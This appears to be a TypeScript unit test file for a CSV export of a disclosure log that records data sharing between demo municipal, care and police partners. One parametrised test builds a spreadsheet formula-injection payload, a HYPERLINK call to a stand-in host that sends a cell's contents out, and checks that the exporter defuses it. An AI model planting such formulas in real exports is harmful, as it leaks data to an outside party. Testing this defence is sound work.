import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { toCsv } from '../../../../gateway/disclosure/log-csv.js';
import type { FoundEntry } from '../../../../gateway/disclosure/review.js';

function regel(overrides: Partial<FoundEntry['regel']> = {}): FoundEntry {
  return {
    index: 7,
    tijd: '2026-03-29T01:30:00.000Z',
    leafHash: 'ab'.repeat(32),
    regel: {
      v: 1,
      tijd: '2026-03-29T01:30:00.000Z',
      payloadDigest: 'cd'.repeat(32),
      soort: 'verstrekking',
      ontvanger: { partner: 'politie-demo', actor: { id: 'agent-1', rol: 'medewerker' } },
      doel: 'casusoverleg',
      subjectRefs: ['ref'],
      casus: 'c-1',
      bronnen: ['gemeente-demo', 'ggz-demo'],
      categorieen: ['naw', 'zorg'],
      grondslagen: ['6.1.e'],
      convenant: 'zvh-demo@2026.1',
      traceId: '0af7651916cd43dd8448eb211c80319c',
      id: '0190',
      ...overrides,
    },
  };
}

const read = (csv: string) => parse(csv, { delimiter: ';', record_delimiter: '\r\n' }) as string[][];

describe('the disclosure log as CSV', () => {
  it('keeps its columns: a header, then one line per disclosure, semicolons and CRLF, lists joined with |', () => {
    const csv = toCsv([regel()]);
    assert.equal(
      csv,
      'index;tijd;soort;ontvanger;actor;rol;bronnen;doel;grondslagen;categorieen;casus;convenant;traceId;leafHash\r\n' +
        `7;2026-03-29T01:30:00.000Z;verstrekking;politie-demo;agent-1;medewerker;gemeente-demo|ggz-demo;casusoverleg;6.1.e;naw|zorg;c-1;zvh-demo@2026.1;0af7651916cd43dd8448eb211c80319c;${'ab'.repeat(32)}\r\n`,
    );
  });

  it('writes only the header for an empty result', () => {
    assert.equal(read(toCsv([])).length, 1);
  });

  it('leaves an absent casus empty', () => {
    const [, row] = read(toCsv([regel({ casus: undefined })]));
    assert.equal(row![10], '');
  });

  it('quotes cells holding a semicolon, a quote or a line break, so they read back unchanged', () => {
    const tricky = 'a;b "c"\nd';
    const [, row] = read(toCsv([regel({ doel: tricky })]));
    assert.equal(row![7], tricky);
  });

  for (const start of ['=', '+', '-', '@', '\t', '\r']) {
    it(`defuses a cell starting with ${JSON.stringify(start)} so a spreadsheet shows it instead of running it`, () => {
      const formula = `${start}HYPERLINK("http://x.example/?"&A1)`;
      const [, row] = read(toCsv([regel({ ontvanger: { partner: formula, actor: { id: 'a', rol: 'r' } } })]));
      assert.equal(row![3], `'${formula}`);
    });
  }

  it('leaves numbers and ordinary text alone', () => {
    const [, row] = read(toCsv([regel({ doel: 'triage' })]));
    assert.equal(row![0], '7');
    assert.equal(row![7], 'triage');
  });
});
